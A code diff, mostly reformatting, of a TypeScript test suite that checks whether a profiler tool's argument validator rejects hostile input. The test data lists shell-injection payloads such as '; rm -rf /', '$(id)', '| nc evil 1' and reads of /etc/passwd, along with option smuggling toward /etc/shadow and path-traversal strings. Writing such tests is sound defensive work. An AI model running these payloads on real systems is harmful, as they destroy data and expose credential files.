@@ -26,15 +26,36 @@ const add = (name: string, args: string[], at: number | 'list', ...says: RegExp[
 const esc = (s: string): string => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
 
 // 1. Shell injection, variables and globs in every typed parameter. No shell ever runs, but no type lets them in.
-const payloads = ['; rm -rf /', '$(id)', '`id`', '$VAR', '${IFS}cat${IFS}/etc/passwd', '*', '?', '[a]', '| nc evil 1', '&& reboot', '> /etc/passwd', '\'$(id)\''];
+const payloads = [
+  '; rm -rf /',
+  '$(id)',
+  '`id`',
+  '$VAR',
+  '${IFS}cat${IFS}/etc/passwd',
+  '*',
+  '?',
+  '[a]',
+  '| nc evil 1',
+  '&& reboot',
+  '> /etc/passwd',
+  "'$(id)'",
+];
 const targets: Array<{ flag: string; prefix: string; says: RegExp }> = [
   { flag: '--freq', prefix: '100', says: /is not an integer for --freq \(integer, 1\.\.10000\)/ },
   { flag: '--call-graph', prefix: 'fp', says: /is not an allowed value for --call-graph \(one of fp, dwarf\)/ },
   { flag: '--interval', prefix: '1s', says: /is not a duration .* for --interval \(duration such as 30s, 5m or 1h, 100ms\.\.1h\)/ },
   { flag: '--mmap-size', prefix: '1Mi', says: /is not a quantity .* for --mmap-size/ },
   { flag: '--cpu-share', prefix: '5', says: /is not an integer for --cpu-share \(percent, a whole number without %, 0\.\.95\)/ },
-  { flag: '--stop-signal', prefix: 'TERM', says: /is not a signal TOE allows for --stop-signal \(signal, one of SIGTERM, SIGINT, SIGUSR1\)/ },
-  { flag: '--output', prefix: '/data/x', says: /(may use only A-Z|ends with \/).* for --output \(absolute path under \/data or \/tmp\/toe\)/ },
+  {
+    flag: '--stop-signal',
+    prefix: 'TERM',
+    says: /is not a signal TOE allows for --stop-signal \(signal, one of SIGTERM, SIGINT, SIGUSR1\)/,
+  },
+  {
+    flag: '--output',
+    prefix: '/data/x',
+    says: /(may use only A-Z|ends with \/).* for --output \(absolute path under \/data or \/tmp\/toe\)/,
+  },
   { flag: '--comm', prefix: 'perf', says: /(does not match the pattern|above the maximum 15) for --comm/ },
   { flag: '--pid-filter', prefix: '1', says: /is not an integer for --pid-filter/ },
 ];
@@ -49,11 +70,16 @@ payloads.forEach((payload, i) => {
 
 // 2. Option smuggling.
 add('short -o with a path outside the roots', ['-o/etc/shadow'], 0, /"\/etc\/shadow" is not under an allowed directory for --output/);
-add('--output into the target\'s root', ['--output=/proc/1/root/etc/shadow'], 0, /not under an allowed directory/);
+add("--output into the target's root", ['--output=/proc/1/root/etc/shadow'], 0, /not under an allowed directory/);
 add('--output via /proc/self', ['--output', '/proc/self/root/data/x'], 1, /not under an allowed directory/);
 add('-o separate with traversal', ['-o', '/data/../../etc/shadow'], 1, /contains a \.\. segment/);
 add('--freq=--help', ['--freq=--help'], 0, /"--help" is not an integer for --freq/);
-add('--freq followed by a flag', ['--freq', '--help'], 0, /next argument "--help" starts with "-"; for a value that starts with "-", write --freq=VALUE/);
+add(
+  '--freq followed by a flag',
+  ['--freq', '--help'],
+  0,
+  /next argument "--help" starts with "-"; for a value that starts with "-", write --freq=VALUE/,
+);
 add('-F followed by a flag', ['-F', '-v'], 0, /next argument "-v" starts with "-"/);
 add('--help', ['--help'], 0, /unknown flag --help; allowed flags: --freq \(-F\), --call-graph \(-g\)/);
 add('-h', ['-h'], 0, /unknown flag -h; allowed flags:/);
@@ -61,7 +87,12 @@ add('--exec', ['--exec=/bin/sh'], 0, /unknown flag --exec;/);
 add('-x short unknown', ['-x', 'y'], 0, /unknown flag -x;/);
 add('a second flag glued into a value', ['--freq=100 --output=/etc/passwd'], 0, /is not an integer for --freq/);
 add('a flag glued into a string value', ['--comm=perf --output=/etc'], 0, /above the maximum 15|does not match/);
-add('duplicate via short and long', ['-F1', '--freq=2'], 1, /--freq was already given as "-F1" \(spec\.tool\.args\[0\]\); it may appear once/);
+add(
+  'duplicate via short and long',
+  ['-F1', '--freq=2'],
+  1,
+  /--freq was already given as "-F1" \(spec\.tool\.args\[0\]\); it may appear once/,
+);
 add('duplicate with the same value', ['--freq=1', '--freq=1'], 1, /already given/);
 add('duplicate via separate forms', ['-g', 'fp', '--call-graph', 'dwarf'], 2, /--call-graph was already given as "-g fp"/);
 add('duplicate positional', ['a', 'b'], 1, /unexpected positional argument; this tool takes <label> only/);
@@ -94,7 +125,7 @@ add('signal not in the values', ['--stop-signal=SIGKILL'], 0, /SIGKILL is not al
 add('signal alias not in the values', ['--stop-signal=KILL'], 0, /SIGKILL is not allowed here/);
 add('signal number', ['--stop-signal=9'], 0, /signal numbers are not accepted/);
 add('negative signal number', ['--stop-signal=-9'], 0, /is not a signal TOE allows/);
-add('signal outside TOE\'s list', ['--stop-signal=SIGSEGV'], 0, /"SIGSEGV" is not a signal TOE allows/);
+add("signal outside TOE's list", ['--stop-signal=SIGSEGV'], 0, /"SIGSEGV" is not a signal TOE allows/);
 add('lower-case signal', ['--stop-signal=sigterm'], 0, /is not a signal TOE allows/);
 add('SIGSIG', ['--stop-signal=SIGSIGTERM'], 0, /is not a signal TOE allows/);
 add('real-time signal', ['--stop-signal=SIGRTMIN+1'], 0, /is not a signal TOE allows/);
@@ -102,15 +133,39 @@ add('positional that looks like a flag value', ['--verbose', 'false', 'x'], 2, /
 
 // 3. Traversal and paths.
 const paths: Array<[string, RegExp]> = [
-  ['/data/../etc', /contains a \.\. segment/], ['/data/..', /contains a \.\. segment/], ['/tmp/toe/../../etc/shadow', /\.\. segment/],
-  ['/data/./x', /contains a \. segment/], ['/data/.', /\. segment/], ['//etc', /empty segment/], ['/data//x', /empty segment/],
-  ['/data/', /trailing slash/], ['data/x', /is not an absolute path/], ['./x', /not an absolute path/], ['../etc', /not an absolute path/],
-  ['~/x', /not an absolute path/], ['~root', /not an absolute path/], ['/data2/x', /not under an allowed directory/],
-  ['/dat', /not under/], ['/tmp/toe2/x', /not under/], ['/tmp', /not under/], ['/', /not under/], ['/etc/shadow', /not under/],
-  ['/proc/1/root/etc/shadow', /not under/], ['/data/%2e%2e/etc', /contains "%"/], ['/data/%2e%2e%2fetc', /contains "%"/],
-  ['/data/..%2f..%2fetc', /contains "%"/], ['/data/x y', /contains " "/], ['/data/*', /contains "\*"/], ['/data/?', /contains "\?"/],
-  ['/data/[a]', /contains "\["/], ['/data/$HOME', /contains "\$"/], ['/data/${IFS}', /contains "\$"/], ['/data/~root', /contains "~"/],
-  ['/data\\..\\etc', /contains "\\\\"/], ['/data/\u2215etc', /contains "\\u2215"/], ['/data/\uff0e\uff0e', /contains "\\uFF0E"/],
+  ['/data/../etc', /contains a \.\. segment/],
+  ['/data/..', /contains a \.\. segment/],
+  ['/tmp/toe/../../etc/shadow', /\.\. segment/],
+  ['/data/./x', /contains a \. segment/],
+  ['/data/.', /\. segment/],
+  ['//etc', /empty segment/],
+  ['/data//x', /empty segment/],
+  ['/data/', /trailing slash/],
+  ['data/x', /is not an absolute path/],
+  ['./x', /not an absolute path/],
+  ['../etc', /not an absolute path/],
+  ['~/x', /not an absolute path/],
+  ['~root', /not an absolute path/],
+  ['/data2/x', /not under an allowed directory/],
+  ['/dat', /not under/],
+  ['/tmp/toe2/x', /not under/],
+  ['/tmp', /not under/],
+  ['/', /not under/],
+  ['/etc/shadow', /not under/],
+  ['/proc/1/root/etc/shadow', /not under/],
+  ['/data/%2e%2e/etc', /contains "%"/],
+  ['/data/%2e%2e%2fetc', /contains "%"/],
+  ['/data/..%2f..%2fetc', /contains "%"/],
+  ['/data/x y', /contains " "/],
+  ['/data/*', /contains "\*"/],
+  ['/data/?', /contains "\?"/],
+  ['/data/[a]', /contains "\["/],
+  ['/data/$HOME', /contains "\$"/],
+  ['/data/${IFS}', /contains "\$"/],
+  ['/data/~root', /contains "~"/],
+  ['/data\\..\\etc', /contains "\\\\"/],
+  ['/data/\u2215etc', /contains "\\u2215"/],
+  ['/data/\uff0e\uff0e', /contains "\\uFF0E"/],
   ['/data/a:b', /contains ":"/],
 ];
 for (const [path, says] of paths) {
@@ -167,30 +222,79 @@ add('unpaired surrogate', ['--freq=1\ud800'], 0, /an unpaired surrogate/);
 
 // 5. Numbers.
 const numbers: Array<[string, string, RegExp]> = [
-  ['--freq', '1e309', /exponent notation is not allowed/], ['--freq', '1e3', /exponent/], ['--freq', '1E3', /exponent/],
-  ['--freq', '9007199254740993', /beyond the exactly representable integers/], ['--freq', '99999999999999999999', /beyond the exactly/],
-  ['--freq', '-1', /-1 is below the minimum 1/], ['--freq', '0', /0 is below the minimum 1/], ['--freq', '10001', /10001 is above the maximum 10000/],
+  ['--freq', '1e309', /exponent notation is not allowed/],
+  ['--freq', '1e3', /exponent/],
+  ['--freq', '1E3', /exponent/],
+  ['--freq', '9007199254740993', /beyond the exactly representable integers/],
+  ['--freq', '99999999999999999999', /beyond the exactly/],
+  ['--freq', '-1', /-1 is below the minimum 1/],
+  ['--freq', '0', /0 is below the minimum 1/],
+  ['--freq', '10001', /10001 is above the maximum 10000/],
   ['--freq', '999999', /999999 is above the maximum 10000 for --freq \(integer, 1\.\.10000\)/],
-  ['--freq', '0x10', /hexadecimal/], ['--freq', '0X10', /hexadecimal/], ['--freq', '0b101', /binary/], ['--freq', '0o17', /octal/],
-  ['--freq', '010', /leading zeros/], ['--freq', '00', /leading zeros/], ['--freq', '+5', /a leading \+ is not allowed/], ['--freq', '-0', /write 0/],
-  ['--freq', ' 5', /leading or trailing whitespace/], ['--freq', '5 ', /whitespace/], ['--freq', 'NaN', /"NaN" is not an integer/],
-  ['--freq', 'Infinity', /"Infinity" is not an integer/], ['--freq', '-Infinity', /is not an integer/], ['--freq', '1.0', /not a whole number/],
-  ['--freq', '1.', /not a whole number/], ['--freq', '.5', /not a whole number/], ['--freq', '1_000', /not an integer/], ['--freq', '1,000', /not an integer/],
-  ['--freq', '5-', /not an integer/], ['--freq', '--5', /not an integer/], ['--freq', '1 2', /not an integer/],
-  ['--pid-filter', '-5', /-5 is below the minimum 1/], ['--pid-filter', '4194305', /above the maximum 4194304/],
-  ['--cpu-share', '96', /96 is above the maximum 95/], ['--cpu-share', '50%', /write "50" without the %/], ['--cpu-share', '-1', /below the minimum 0/],
-  ['--cpu-share', '50.5', /not a whole number/], ['--cpu-share', '0x32', /hexadecimal/], ['--cpu-share', '1e2', /exponent/],
-  ['--interval', '2h', /2h is above the maximum 1h/], ['--interval', '61m', /61m is above the maximum 1h/], ['--interval', '50ms', /50ms is below the minimum 100ms/],
-  ['--interval', '1d', /is not a duration/], ['--interval', '-1s', /negative durations/], ['--interval', '30', /has no unit/], ['--interval', '1.5s', /not a duration/],
-  ['--interval', '1h 30m', /not a duration/], ['--interval', 'PT1H', /not a duration/], ['--interval', '9999999h', /not a duration/], ['--interval', '1e3s', /not a duration/],
-  ['--mmap-size', '5Gi', /5Gi is above the maximum 4Gi/], ['--mmap-size', '4.1Gi', /above the maximum 4Gi/], ['--mmap-size', '4294967297', /above the maximum/],
-  ['--mmap-size', '-1Mi', /negative quantities/], ['--mmap-size', '1e9', /not a quantity/], ['--mmap-size', '1GB', /not a quantity/],
-  ['--mmap-size', '0x10Mi', /not a quantity/], ['--mmap-size', '1 Gi', /not a quantity/], ['--mmap-size', 'Infinity', /not a quantity/],
+  ['--freq', '0x10', /hexadecimal/],
+  ['--freq', '0X10', /hexadecimal/],
+  ['--freq', '0b101', /binary/],
+  ['--freq', '0o17', /octal/],
+  ['--freq', '010', /leading zeros/],
+  ['--freq', '00', /leading zeros/],
+  ['--freq', '+5', /a leading \+ is not allowed/],
+  ['--freq', '-0', /write 0/],
+  ['--freq', ' 5', /leading or trailing whitespace/],
+  ['--freq', '5 ', /whitespace/],
+  ['--freq', 'NaN', /"NaN" is not an integer/],
+  ['--freq', 'Infinity', /"Infinity" is not an integer/],
+  ['--freq', '-Infinity', /is not an integer/],
+  ['--freq', '1.0', /not a whole number/],
+  ['--freq', '1.', /not a whole number/],
+  ['--freq', '.5', /not a whole number/],
+  ['--freq', '1_000', /not an integer/],
+  ['--freq', '1,000', /not an integer/],
+  ['--freq', '5-', /not an integer/],
+  ['--freq', '--5', /not an integer/],
+  ['--freq', '1 2', /not an integer/],
+  ['--pid-filter', '-5', /-5 is below the minimum 1/],
+  ['--pid-filter', '4194305', /above the maximum 4194304/],
+  ['--cpu-share', '96', /96 is above the maximum 95/],
+  ['--cpu-share', '50%', /write "50" without the %/],
+  ['--cpu-share', '-1', /below the minimum 0/],
+  ['--cpu-share', '50.5', /not a whole number/],
+  ['--cpu-share', '0x32', /hexadecimal/],
+  ['--cpu-share', '1e2', /exponent/],
+  ['--interval', '2h', /2h is above the maximum 1h/],
+  ['--interval', '61m', /61m is above the maximum 1h/],
+  ['--interval', '50ms', /50ms is below the minimum 100ms/],
+  ['--interval', '1d', /is not a duration/],
+  ['--interval', '-1s', /negative durations/],
+  ['--interval', '30', /has no unit/],
+  ['--interval', '1.5s', /not a duration/],
+  ['--interval', '1h 30m', /not a duration/],
+  ['--interval', 'PT1H', /not a duration/],
+  ['--interval', '9999999h', /not a duration/],
+  ['--interval', '1e3s', /not a duration/],
+  ['--mmap-size', '5Gi', /5Gi is above the maximum 4Gi/],
+  ['--mmap-size', '4.1Gi', /above the maximum 4Gi/],
+  ['--mmap-size', '4294967297', /above the maximum/],
+  ['--mmap-size', '-1Mi', /negative quantities/],
+  ['--mmap-size', '1e9', /not a quantity/],
+  ['--mmap-size', '1GB', /not a quantity/],
+  ['--mmap-size', '0x10Mi', /not a quantity/],
+  ['--mmap-size', '1 Gi', /not a quantity/],
+  ['--mmap-size', 'Infinity', /not a quantity/],
 ];
 for (const [flag, value, says] of numbers) add(`${flag}=${value}`, [`${flag}=${value}`], 0, says, new RegExp(`for ${esc(flag)} \\(`));
 
 // 6. Empty values, lengths and counts.
-for (const flag of ['--freq', '--call-graph', '--output', '--comm', '--stop-signal', '--interval', '--mmap-size', '--cpu-share', '--verbose']) {
+for (const flag of [
+  '--freq',
+  '--call-graph',
+  '--output',
+  '--comm',
+  '--stop-signal',
+  '--interval',
+  '--mmap-size',
+  '--cpu-share',
+  '--verbose',
+]) {
   add(`empty ${flag}=`, [`${flag}=`], 0, /the value is empty for /);
 }
 add('empty argument', [''], 0, /an empty argument is not allowed/);
@@ -201,8 +305,18 @@ add('over-long string', [`--comm=${'a'.repeat(200)}`], 0, /the argument is 207 c
 add('over-long positional', ['x'.repeat(129)], 0, /129 characters, above the maximum 128/);
 add('over-long path', [`--output=/data/${'a/'.repeat(60)}a`], 0, /above the maximum 128/);
 add('over-long multibyte', ['😀'.repeat(129)], 0, /129 characters/);
-add('too many arguments', Array.from({ length: 25 }, (_, i) => `--comm=c${i}`), 'list', /25 arguments given; at most 24 are allowed/);
-add('far too many arguments', Array.from({ length: 100_000 }, () => '-v'), 'list', /100000 arguments given/);
+add(
+  'too many arguments',
+  Array.from({ length: 25 }, (_, i) => `--comm=c${i}`),
+  'list',
+  /25 arguments given; at most 24 are allowed/,
+);
+add(
+  'far too many arguments',
+  Array.from({ length: 100_000 }, () => '-v'),
+  'list',
+  /100000 arguments given/,
+);
 add('string longer than maxLength', ['--comm=abcdefghijklmnop'], 0, /the value is 16 characters, above the maximum 15 for --comm/);
 
 // 7. Control characters.
@@ -234,7 +348,10 @@ describe('hostile arguments', () => {
       if (result.ok) return;
       const path = c.at === 'list' ? 'spec.tool.args' : `spec.tool.args[${c.at}]`;
       const found = result.errors.find((e) => e.path === path && c.says.every((re) => re.test(e.message)));
-      assert.ok(found, `no error at ${path} matching ${c.says.join(' and ')}; got:\n${result.errors.map((e) => `${e.path}: ${e.message}`).join('\n')}`);
+      assert.ok(
+        found,
+        `no error at ${path} matching ${c.says.join(' and ')}; got:\n${result.errors.map((e) => `${e.path}: ${e.message}`).join('\n')}`,
+      );
       for (const e of result.errors) assert.match(e.message, /^[\x20-\x7e…]*$/, 'messages escape everything but printable ASCII');
     });
   }
